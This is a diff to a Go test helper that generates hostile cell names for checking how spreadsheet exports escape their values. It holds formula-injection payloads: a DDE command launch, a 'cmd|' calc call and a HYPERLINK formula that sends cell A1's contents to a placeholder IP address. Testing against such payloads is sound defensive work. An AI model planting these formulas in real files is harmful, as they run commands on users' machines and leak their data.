@@ -23,7 +23,7 @@ func hostileNames(n int) []string {
 	random := rand.New(rand.NewPCG(7, 1)) //nolint:gosec // a fixed seed: the names are the same each time
 	first := []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＠", "\t=", "\r\n=", "'=", "\"=", " ", "\u202e", "\ufeff=", "</t></is></c><c><f>", "]]>", "&#61;", "_x003D_", "\x00", "\xff", "<f>", ""}
 	rest := []string{"1+1", "cmd|'/C calc'!A0", `HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "SUM(A:A)", "DDE(\"cmd\";\"/C calc\";\"\")", "WEBSERVICE(\"x\")", "Ada Ltd", "😀👩‍👩‍👧", "שלום",
-		"مرحبا", "日本語", "\",\"=1", ";=1", "\n=1", "\r=1", "\t=1", "<f>1+1</f>", "&amp;", "]]>", "_x0041_", "\x08\x1b", "%0A", strings.Repeat("=", 300), strings.Repeat("A", 40000), "\xc3\x28", ""}
+		"مرحبا", "日本語", "\",\"=1", ";=1", "\n=1", "\r=1", "\t=1", "<f>1+1</f>", "&amp;", "]]>", "_x0041_", "\x08\x1b", "%0A", strings.Repeat("=", 300), strings.Repeat("A", 4000), "\xc3\x28", ""}
 	names := make([]string, 0, n)
 	for len(names) < n {
 		name := first[len(names)%len(first)] + rest[random.IntN(len(rest))]
